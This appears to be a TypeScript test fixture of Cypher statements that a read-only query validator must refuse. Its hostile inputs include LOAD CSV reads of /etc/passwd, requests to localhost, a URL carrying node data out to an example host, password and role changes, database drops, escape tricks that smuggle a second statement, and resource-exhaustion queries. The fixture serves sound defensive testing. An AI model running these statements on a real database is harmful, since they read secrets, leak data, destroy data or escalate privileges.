/** Statements that must never run, with the rule that refuses each and the text at the reported position. */
import type { Rule } from '../../../src/adhoc-cypher/errors.ts';

export interface Attack {
  readonly rule: Rule;
  readonly text: string;
  /** The text at the reported position. */
  readonly at: string;
}

const of = (rule: Attack['rule'], ...rows: readonly (readonly [text: string, at: string])[]): Attack[] =>
  rows.map(([text, at]) => ({ rule, text, at }));

const WRITES = of(
  'write',
  ['CREATE (n)', 'CREATE'],
  ['CREATE (n:State {id: "state:ZZZ"}) RETURN n', 'CREATE'],
  ['INSERT (n:State {id: "state:ZZZ"})', 'INSERT'],
  ['MERGE (n:State {id: "state:ZZZ"})', 'MERGE'],
  ['MERGE (n:State {id: "state:RUS"}) ON MATCH SET n.name = "x" RETURN n', 'MERGE'],
  ['MATCH (a:State), (b:Person) CREATE (a)-[:LEADS]->(b)', 'CREATE'],
  ['MATCH (n) SET n.name = "x"', 'SET'],
  ['MATCH (n) SET n += {name: "x"} RETURN n', 'SET'],
  ['MATCH (n) SET n = {}', 'SET'],
  ['MATCH (n) SET n:Evil', 'SET'],
  ['MATCH (n) SET n[$key] = 1', 'SET'],
  ['MATCH ()-[r]->() SET r.claims = []', 'SET'],
  ['MATCH (n) REMOVE n.name', 'REMOVE'],
  ['MATCH (n:State) REMOVE n:State', 'REMOVE'],
  ['MATCH (n) DELETE n', 'DELETE'],
  ['MATCH (n) DETACH DELETE n', 'DETACH'],
  ['MATCH ()-[r]->() DELETE r', 'DELETE'],
  ['MATCH (n) NODETACH DELETE n', 'NODETACH'],
  ['FOREACH (x IN [1, 2] | CREATE (:Evil))', 'FOREACH'],
  ['MATCH (n) FOREACH (m IN [n] | SET m.x = 1)', 'FOREACH'],
  ['CALL { CREATE (n:Evil) RETURN n } RETURN n', 'CREATE'],
  ['MATCH (n) CALL (n) { SET n.x = 1 } RETURN n', 'SET'],
  ['MATCH (n) CALL { WITH n DELETE n } RETURN 1', 'DELETE'],
  ['UNWIND [1] AS x CALL { UNWIND [2] AS y CALL { CREATE (:Evil) } RETURN 1 AS z } RETURN z', 'CREATE'],
  ['RETURN 1 AS a UNION CREATE (n) RETURN 1 AS a', 'CREATE'],
  ['MATCH (n) WITH n LIMIT 1 SET n.x = 1 RETURN n.x', 'SET'],
  ['MATCH (create) SET create.x = 1', 'SET'],
  ['MATCH (n) RETURN n.delete UNION ALL MATCH (n) DELETE n RETURN 1 AS `n.delete`', 'DELETE n'],
  ['create (n)', 'create'],
  ['cReAtE (n)', 'cReAtE'],
  ['/* nothing */ CREATE /* here */ (n)', 'CREATE'],
  ['// RETURN 1\nCREATE (n)', 'CREATE'],
  ['CREATE\n//x\n(n)', 'CREATE'],
  ['MATCH (n) /*\nRETURN n */ DETACH /**/ DELETE n', 'DETACH'],
  ['RETURN "/*" AS a UNION CREATE (n) RETURN "*/" AS a', 'CREATE'],
  ["RETURN '//' AS a UNION CREATE (n) RETURN 1 AS a", 'CREATE'],
  ['WITH "`" AS a CREATE (n {x: a}) RETURN "`" AS b', 'CREATE'],
  ['MATCH (`a``b`) DELETE `a``b`', 'DELETE'],
  ['WITH "\\"" AS a CREATE (n) RETURN "\\"" AS b', 'CREATE'],
  ['OPTIONAL MATCH (n) DELETE n', 'DELETE'],
  ['MATCH (n) WHERE EXISTS { (n)--() } DELETE n', 'DELETE'],
  ['MATCH p = (a)-->(b) DELETE p', 'DELETE'],
  ['CREATE (n);', 'CREATE'],
  ['  \t\r\n CREATE (n)', 'CREATE'],
);

const SCHEMA_AND_COMMANDS = [
  ...of(
    'schema',
    ['CREATE INDEX evil FOR (n:State) ON (n.x)', 'CREATE'],
    ['CREATE TEXT INDEX evil FOR (n:State) ON (n.x)', 'CREATE'],
    ['CREATE FULLTEXT INDEX evil FOR (n:State) ON EACH [n.x]', 'CREATE'],
    ['CREATE VECTOR INDEX evil FOR (n:State) ON (n.x)', 'CREATE'],
    ['CREATE CONSTRAINT evil FOR (n:State) REQUIRE n.x IS UNIQUE', 'CREATE'],
    ['CREATE CONSTRAINT evil IF NOT EXISTS FOR ()-[r:LEADS]-() REQUIRE r.x IS UNIQUE', 'CREATE'],
    ['DROP INDEX evil IF EXISTS', 'DROP'],
    ['DROP CONSTRAINT evil IF EXISTS', 'DROP'],
  ),
  ...of(
    'command',
    ['SHOW TRANSACTIONS', 'SHOW'],
    ['SHOW TRANSACTIONS YIELD * RETURN currentQuery', 'SHOW'],
    [
      'SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message',
      'SHOW',
    ],
    ['TERMINATE TRANSACTION "neo4j-transaction-1"', 'TERMINATE'],
    ['TERMINATE TRANSACTIONS $ids', 'TERMINATE'],
    ['SHOW SETTINGS', 'SHOW'],
    ['SHOW SETTINGS YIELD name, value WHERE name STARTS WITH "server" RETURN *', 'SHOW'],
    ['SHOW INDEXES', 'SHOW'],
    ['SHOW CONSTRAINTS', 'SHOW'],
    ['SHOW FUNCTIONS', 'SHOW'],
    ['SHOW PROCEDURES', 'SHOW'],
    ['SHOW USERS', 'SHOW'],
    ['SHOW CURRENT USER', 'SHOW'],
    ['SHOW DATABASES', 'SHOW'],
    ['SHOW DEFAULT DATABASE', 'SHOW'],
    ['SHOW HOME DATABASE YIELD name', 'SHOW'],
    ['show/**/transactions', 'show'],
    ['ALTER USER neo4j SET PASSWORD "abcdefghi"', 'ALTER'],
    ['ALTER CURRENT USER SET PASSWORD FROM "a" TO "b"', 'ALTER'],
    ['CREATE USER evil SET PASSWORD "abcdefghi"', 'CREATE'],
    ['CREATE OR REPLACE USER evil SET PASSWORD "abcdefghi"', 'CREATE'],
    ['DROP USER neo4j', 'DROP'],
    ['RENAME USER neo4j TO evil', 'RENAME'],
    ['CREATE ROLE evil', 'CREATE'],
    ['GRANT ROLE admin TO neo4j', 'GRANT'],
    ['DENY READ {*} ON GRAPH * TO PUBLIC', 'DENY'],
    ['REVOKE ROLE admin FROM neo4j', 'REVOKE'],
    ['CREATE DATABASE evil', 'CREATE'],
    ['STOP DATABASE neo4j', 'STOP'],
    ['START DATABASE neo4j', 'START'],
    ['DROP DATABASE neo4j', 'DROP'],
    ['ALTER DATABASE neo4j SET ACCESS READ ONLY', 'ALTER'],
    ['CREATE ALIAS evil FOR DATABASE neo4j', 'CREATE'],
    ['ENABLE SERVER "x"', 'ENABLE'],
    ['SHOW SERVERS', 'SHOW'],
    ['SHOW ROLES', 'SHOW'],
    ['SHOW PRIVILEGES', 'SHOW'],
    ['SHOW ALIASES FOR DATABASE', 'SHOW'],
  ),
];

const LOADS = [
  ...of(
    'load',
    ['LOAD CSV FROM "file:///etc/passwd" AS line RETURN line', 'LOAD'],
    ['LOAD CSV WITH HEADERS FROM "http://127.0.0.1:80/x" AS line RETURN line', 'LOAD'],
    ['LOAD CSV FROM $url AS line RETURN line', 'LOAD'],
    ['CALL { LOAD CSV FROM "https://example.org" AS line RETURN line } RETURN line', 'LOAD'],
    ['load csv from "ftp://example.org/x" AS line FIELDTERMINATOR ";" RETURN line', 'load'],
    ['MATCH (n) WITH n.name AS name LOAD CSV FROM "http://example.org/?" + name AS line RETURN line', 'LOAD'],
  ),
  // In an expression, no operator of the plan shows them.
  ...of(
    'load',
    [
      'MATCH (n) RETURN CASE WHEN n.x = 1 THEN EXISTS { LOAD CSV FROM "http://127.0.0.1:9/x" AS l RETURN l } END',
      'LOAD',
    ],
    ['RETURN [x IN [1] | COLLECT { LOAD CSV FROM "http://127.0.0.1:9/x" AS l RETURN l }]', 'LOAD'],
    [
      'RETURN reduce(s = 0, x IN [1] | s + COUNT { LOAD CSV FROM "file:///etc/passwd" AS l RETURN l })',
      'LOAD',
    ],
    ['RETURN {a: COLLECT { load/**/csv FROM "file:///etc/passwd" AS l RETURN l }}', 'load'],
  ),
  ...of(
    'procedure',
    ['RETURN [x IN [1] | COLLECT { CALL db.info() YIELD name RETURN name }]', 'db.info'],
    ['RETURN CASE WHEN true THEN EXISTS { CALL dbms.listConfig() YIELD name RETURN name } END', 'dbms'],
  ),
  ...of(
    'transactions',
    ['RETURN [x IN [1] | COLLECT { CALL { RETURN 1 AS y } IN TRANSACTIONS RETURN y }]', 'TRANSACTIONS'],
    ['MATCH (n) CALL (n) { RETURN 1 AS one } IN TRANSACTIONS RETURN one', 'TRANSACTIONS'],
    ['UNWIND [1] AS x CALL (x) { CREATE (:Evil) } IN TRANSACTIONS OF 1 ROW', 'TRANSACTIONS'],
    [
      'UNWIND [1] AS x CALL { WITH x MATCH (n) DELETE n } IN 2 CONCURRENT TRANSACTIONS RETURN x',
      'TRANSACTIONS',
    ],
  ),
  ...of('load', ['USING PERIODIC COMMIT LOAD CSV FROM "file:///x" AS l CREATE (n)', 'LOAD']),
];

const OTHER_DATABASES = of(
  'database',
  ['USE system MATCH (n) RETURN n', 'USE'],
  ['USE system SHOW USERS', 'USE'],
  ['USE neo4j MATCH (n) RETURN n', 'USE'],
  ['use `system` CALL dbms.upgrade()', 'use'],
  ['CALL { USE system MATCH (n) RETURN n } RETURN n', 'USE'],
  ['UNWIND ["system"] AS g CALL (g) { USE graph.byName(g) MATCH (n) RETURN n } RETURN n', 'USE'],
  ['RETURN 1 AS a UNION USE system RETURN 1 AS a', 'USE'],
  ['USE graph.byElementId("4:x:0") RETURN 1', 'USE'],
  ['/* */ USE/**/system RETURN 1', 'USE'],
);

/** All procedures of 5.26 that are not allowed, and some of well-known plugins. */
const PROCEDURES = of(
  'procedure',
  ...`db.awaitIndex db.awaitIndexes db.clearQueryCaches db.create.setNodeVectorProperty
    db.create.setRelationshipVectorProperty db.create.setVectorProperty db.createLabel db.createProperty
    db.createRelationshipType db.index.fulltext.awaitEventuallyConsistentIndexRefresh
    db.index.vector.createNodeIndex db.info db.ping db.prepareForReplanning db.resampleIndex
    db.resampleOutdatedIndexes db.stats.clear db.stats.collect db.stats.retrieve db.stats.retrieveAllAnonymized
    db.stats.status db.stats.stop dbms.cluster.routing.getRoutingTable dbms.components dbms.info
    dbms.killConnection dbms.killConnections dbms.listCapabilities dbms.listConfig dbms.listConnections
    dbms.queryJmx dbms.routing.getRoutingTable dbms.showCurrentUser dbms.upgrade dbms.upgradeStatus
    tx.getMetaData tx.setMetaData dbms.setConfigValue apoc.load.json apoc.cypher.runWrite apoc.export.csv.all
    apoc.periodic.iterate gds.graph.project genai.vector.encodeBatch dbms.security.createUser`
    .split(/\s+/)
    .map((name) => [`CALL ${name}()`, name] as const),
  ['CALL dbms.listConfig', 'dbms.listConfig'],
  ['CALL dbms.listConfig("server") YIELD value RETURN value', 'dbms.listConfig'],
  ['call `dbms`.`listConfig`()', '`dbms`'],
  ['CALL dbms . listConfig ( )', 'dbms'],
  ['CALL/**/dbms/**/./**/killConnection("bolt-1")', 'dbms'],
  ['CALL DBMS.LISTCONFIG()', 'DBMS'],
  ['MATCH (n) CALL dbms.listConnections() YIELD connectionId RETURN connectionId', 'dbms'],
  ['OPTIONAL CALL dbms.listConfig() YIELD value RETURN value', 'dbms'],
  ['CALL { CALL dbms.listConfig() YIELD value RETURN value } RETURN value', 'dbms'],
);

const FUNCTIONS = of(
  'function',
  ['RETURN file()', 'file'],
  ['RETURN linenumber()', 'linenumber'],
  ['RETURN graph.byName("system")', 'graph'],
  ['RETURN apoc.cypher.runFirstColumnSingle("CREATE (n)", {})', 'apoc'],
  ['RETURN apoc.util.sleep(1)', 'apoc'],
  ['MATCH (n) WHERE apoc.load.json("http://example.org") IS NOT NULL RETURN n', 'apoc'],
  ['RETURN [x IN [1] | genai.vector.encode("x", "OpenAI", {})]', 'genai'],
  ['RETURN `apoc`.`version`()', '`apoc`'],
  ['RETURN apoc /* x */ . version ( )', 'apoc'],
  ['RETURN {a: evil.fn()}', 'evil'],
  ['MATCH (n {x: evil.fn(1)}) RETURN n', 'evil'],
  ['RETURN EXISTS { MATCH (n) WHERE evil.fn(n) }', 'evil'],
);

const TRICKS = [
  ...of(
    'escape',
    ['\\u0043REATE (n)', '\\u0043'],
    ['RETURN 1 AS a \\u0055NION CREATE (n) RETURN 1 AS a', '\\u0055'],
    ["RETURN 'a\\u0027 AS x UNION CREATE (n) RETURN \\u0027b' AS x", '\\u0027'],
    ['RETURN "a\\u0022 + file() + \\u0022b" AS x', '\\u0022'],
    ['MATCH (`n\\u0060) DELETE n //`) RETURN 1', '\\u0060'],
    ['RETURN 1 // nothing \\u000a DELETE n', '\\u000a'],
    ['RETURN 1 /* \\u002a/ CREATE (n) */', '\\u002a'],
    ["RETURN 'a\\\\u0027 AS x'", '\\\\u0027'.slice(1)],
    ["RETURN 'a\\uu0027 CREATE (n) //'", '\\uu0027'],
    ["RETURN 'a\\u005c' AS x, ' CREATE (n) //'", '\\u005c'],
    ["RETURN '\\ud83d' AS half", '\\ud83d'],
    ['MATCH (n) \\u0044ELETE n', '\\u0044'],
  ),
  ...of(
    'character',
    ['CREATE\u200b(n)', '\u200b'],
    ['MATCH (n)\u2028DELETE n', '\u2028'],
    ['RETURN\u00001', '\u0000'],
    ['MATCH (n) \u202eeteled n', '\u202e'],
    ['RETURN 1 \\ CREATE', '\\'],
    ['CALL dbms\u200d.listConfig()', '\u200d'],
  ),
  ...of(
    'unclosed',
    ['RETURN 1 /* CREATE (n)', '/*'],
    ["RETURN 'a CREATE (n)", "'a"],
    ['RETURN "a CREATE (n)', '"a'],
    ['MATCH (`n) DELETE n', '`n'],
    ["RETURN 'a\\' CREATE (n)", "'a"],
  ),
  ...of(
    'one-statement',
    ['RETURN 1; CREATE (n)', 'CREATE'],
    ['RETURN 1;RETURN 2;', 'RETURN 2'],
    [';RETURN 1;;DELETE n', 'DELETE'],
    ['RETURN 1 /*;*/; /* */ MATCH (n) DELETE n', 'MATCH'],
    ['RETURN ";" AS a; CREATE (n)', 'CREATE'],
  ),
  ...of(
    'prefix',
    ['EXPLAIN EXPLAIN MATCH (n) RETURN n', 'EXPLAIN MATCH'],
    ['PROFILE EXPLAIN RETURN 1', 'EXPLAIN'],
    ['EXPLAIN PROFILE CREATE (n)', 'PROFILE'],
    ['EXPLAIN CYPHER runtime=parallel RETURN 1', 'CYPHER'],
    ['PROFILE /* */ cypher 25 CREATE (n)', 'cypher'],
    ['CYPHER EXPLAIN RETURN 1', 'CYPHER'],
    ['CYPHER 25 CREATE (n)', 'CYPHER'],
    ['CYPHER runtime=parallel MATCH (n) RETURN n', 'CYPHER'],
    ['cypher planner=dp RETURN 1', 'cypher'],
    ['/* */ CYPHER replan=force RETURN 1', 'CYPHER'],
  ),
  // The same rules apply after EXPLAIN and PROFILE.
  ...of(
    'write',
    ['EXPLAIN CREATE (n)', 'CREATE'],
    ['PROFILE CREATE (n)', 'CREATE'],
    ['  profile MATCH (n) DETACH DELETE n', 'DETACH'],
    ['/* */ PROFILE/**/MERGE (n:Evil) RETURN n', 'MERGE'],
  ),
  ...of('schema', ['PROFILE CREATE INDEX evil FOR (n:State) ON (n.x)', 'CREATE']),
  ...of('command', ['EXPLAIN SHOW SETTINGS', 'SHOW'], ['PROFILE TERMINATE TRANSACTIONS $ids', 'TERMINATE']),
  ...of('load', ['PROFILE LOAD CSV FROM "file:///etc/passwd" AS line RETURN line', 'LOAD']),
  ...of('database', ['EXPLAIN USE system SHOW USERS', 'USE'], ['PROFILE USE neo4j RETURN 1', 'USE']),
  ...of('procedure', ['PROFILE CALL dbms.listConfig() YIELD value RETURN value', 'dbms']),
  ...of('function', ['EXPLAIN RETURN apoc.util.sleep(1)', 'apoc']),
  ...of('transactions', ['PROFILE CALL { CREATE (:Evil) } IN TRANSACTIONS', 'TRANSACTIONS']),
  ...of('one-statement', ['EXPLAIN RETURN 1; CREATE (n)', 'CREATE']),
  ...of('escape', ['\\u0045XPLAIN CREATE (n)', '\\u0045'], ['EXPLAIN \\u0043REATE (n)', '\\u0043']),
  ...of('empty', ['EXPLAIN', ''], ['PROFILE ;', '']),
  ...of('empty', ['', ''], ['   ', ''], ['// RETURN 1', ''], ['/* RETURN 1 */', ''], [';;', '']),
  ...of(
    'nesting',
    [`RETURN ${'('.repeat(80)}1${')'.repeat(80)}`, `${'('.repeat(16)}1`],
    [`RETURN ${'['.repeat(400)}1${']'.repeat(400)}`, `${'['.repeat(336)}1`],
    [`RETURN ${'CALL { '.repeat(80)}RETURN 1 AS x ${'} RETURN x '.repeat(80)}`, '{ CALL'],
    [`RETURN ${'NOT '.repeat(10_000)}true`, 'NOT '],
    [`RETURN 1${' - - '.repeat(200)}1`, '-'],
    [`RETURN ${'CASE WHEN true THEN '.repeat(100)}1${' END'.repeat(100)}`, 'CASE'],
  ),
  ...of(
    'range',
    ['RETURN [x IN range(1, 100000000) | toString(x)]', 'range'],
    ['RETURN reduce(s = 0, x IN range(1, 1000000000000) | s + x)', 'range'],
    ['RETURN any(x IN range(1, 1000000000000) WHERE x < 0)', 'range'],
    ['WITH 1000000000000 AS n RETURN all(x IN range(1, n) WHERE x > 0)', 'range'],
    ['RETURN range(1, 9 * 999999)', 'range'],
    ['RETURN range(0, $n)', 'range'],
    ['RETURN [x IN range(1, $n) | x]', 'range'],
    ['RETURN range(0 - $n, 1)', 'range'],
    ['RETURN range(0, size([1]) + $n)', 'range'],
    ['RETURN range($key, 1)', 'range'],
    ['RETURN range(0, $n * 2)', 'range'],
    ['RETURN range(1, 99999 + 99999)', 'range'],
    ['PROFILE RETURN range(1, $n)', 'range'],
    ['RETURN range(1, 1e9)', 'range'],
    ['RETURN range(1, 0xFFFFFFF)', 'range'],
    ['UNWIND range(1, 1000000000)[..5] AS x RETURN x', 'range'],
    ['UNWIND range(1, 1000000000) + [1] AS x RETURN x', 'range'],
  ),
];

export const ATTACKS: readonly Attack[] = [
  ...WRITES,
  ...SCHEMA_AND_COMMANDS,
  ...LOADS,
  ...OTHER_DATABASES,
  ...PROCEDURES,
  ...FUNCTIONS,
  ...TRICKS,
];
